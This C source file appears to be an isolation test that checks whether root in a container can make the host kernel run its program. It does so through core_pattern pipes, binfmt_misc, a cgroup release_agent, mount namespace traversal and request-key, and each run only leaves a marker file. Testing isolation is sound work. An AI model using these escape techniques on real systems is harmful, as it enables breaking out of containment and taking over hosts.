// SPDX-License-Identifier: Apache-2.0 OR MIT
/*
 * Can root in a workload run a program in PID 1's namespaces? Makes `/proc/sys` writable, then lets the kernel start a program for a
 * core dump in several ways, and prints for each whether it ran. A program that ran has made the file `/dev/WAY`: the machine has one
 * devtmpfs. So does the program for a key that no keyring has. The program for an empty control group belongs to a hierarchy of version 1, which only the initial control group namespace may
 * make. A mount namespace leads to those that were made before it, PID 1's among them, where `noexec` could be undone.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* A file for the ELF header of /init. */
#define INIT_MAGIC "\\x7fELF\\x02\\x01\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x02\\x00\\x3e\\x00"

/* Linux, `include/uapi/linux/nsfs.h`: the mount namespace that was made before. */
#define NS_MNT_GET_PREV _IOR(0xb7, 12, unsigned long long[2])
/* Of the kernel. */
#define KEY_PROGRAM "/sbin/request-key"

static int core_pattern;

static void check(const char *what, int result)
{
    if (result < 0) {
        perror(what);
        exit(1);
    }
}

static int file(const char *path, int flags)
{
    int descriptor = open(path, flags | O_CLOEXEC, 0755);
    check(path, descriptor);
    return descriptor;
}

static void write_to(const char *path, const char *text)
{
    int descriptor = file(path, O_WRONLY);
    check(path, write(descriptor, text, strlen(text)));
    close(descriptor);
}

static void copy(int program, const char *path)
{
    int descriptor = file(path, O_WRONLY | O_CREAT | O_EXCL);
    struct stat status;
    check(path, fstat(program, &status));
    off_t from = 0;
    while (from < status.st_size)
        check(path, sendfile(descriptor, program, &from, status.st_size - from));
    close(descriptor);
}

static void report(const char *way, const char *otherwise)
{
    char mark[128];
    snprintf(mark, sizeof mark, "/dev/%s", way);
    printf("%s: %s\n", way, access(mark, F_OK) == 0 ? "ran" : otherwise);
}

/* Ends a child with a core dump, for which the kernel starts `program`. It waits for the program's end. */
static void try(const char *way, const char *program)
{
    char text[128];
    int length = snprintf(text, sizeof text, "|%s mark %s", program, way);
    check("core_pattern", pwrite(core_pattern, text, length, 0));
    pid_t child = fork();
    check("fork", child);
    if (child == 0) {
        struct rlimit unlimited = { RLIM_INFINITY, RLIM_INFINITY };
        setrlimit(RLIMIT_CORE, &unlimited);
        abort();
    }
    int status;
    check("waitpid", waitpid(child, &status, 0));
    report(way, WIFSIGNALED(status) ? "did not run" : "no core dump");
}

int main(int argc, char **argv)
{
    const char *mark = argc >= 3 && strcmp(argv[argc - 2], "mark") == 0 ? argv[argc - 1] : NULL;
    if (strcmp(argv[0], KEY_PROGRAM) == 0)
        mark = "key";
    if (mark) {
        check("chdir", chdir("/dev"));
        file(mark, O_WRONLY | O_CREAT);
        return 0;
    }
    setvbuf(stdout, 0, _IOLBF, BUFSIZ);
    /* Fails in a privileged workload, where it is no mount and writable. */
    mount(0, "/proc/sys", 0, MS_REMOUNT | MS_BIND, 0);
    core_pattern = file("/proc/sys/kernel/core_pattern", O_WRONLY);
    write_to("/proc/sys/kernel/core_pipe_limit", "1");
    int program = file("/proc/self/exe", O_RDONLY);

    try("process", "/proc/%P/exe");

    copy(program, "/dev/program");
    try("device", "/dev/program");

    /* The interpreter is opened now, through a mount of the workload's. */
    mkdir("/dev/misc", 0755);
    check("mount binfmt_misc", mount("binfmt_misc", "/dev/misc", "binfmt_misc", 0, 0));
    write_to("/dev/misc/register", ":init:M::" INIT_MAGIC "::/kernel_helper:F");
    try("interpreter", "/init");
    write_to("/dev/misc/init", "-1");

    mkdir("/dev/hierarchy", 0755);
    int mounted = mount("cgroup", "/dev/hierarchy", "cgroup", 0, "none,name=agent,release_agent=/dev/program");
    printf("release agent: %s\n", mounted == 0 ? "set" : errno == EPERM ? "refused" : strerror(errno));

    /* What the root of the workload covers is the initramfs. */
    int namespace = file("/proc/self/ns/mnt", O_RDONLY);
    unsigned long long info[2] = { sizeof info };
    int previous = ioctl(namespace, NS_MNT_GET_PREV, info);
    printf("mount namespace: %s\n", previous >= 0 ? "found" : errno == EPERM ? "refused" : strerror(errno));
    check("detach root", umount2("/", MNT_DETACH));
    check("setns", setns(namespace, CLONE_NEWNS));
    copy(program, "/program");
    try("initramfs", "/program");

    /* It waits for the program's end. */
    mkdir("/sbin", 0755);
    copy(program, KEY_PROGRAM);
    check("request_key", syscall(SYS_request_key, "user", "coracle:key", "", 0) < 0 ? 0 : -1);
    report("key", "did not run");
    return 0;
}
